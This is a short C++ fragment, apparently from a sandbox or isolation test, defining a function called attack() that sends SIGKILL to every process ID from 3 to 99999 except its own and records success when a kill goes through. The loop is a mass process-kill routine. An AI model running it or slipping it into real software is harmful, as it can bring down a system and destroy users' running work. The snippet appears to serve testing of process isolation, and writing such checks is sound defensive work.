#include <unistd.h>
#include <csignal>

void attack() {
    for (int process = 3; process < 100000; ++process)
        if (process != ::getpid() && ::kill(process, SIGKILL) == 0) succeeded("somebody was there");
}
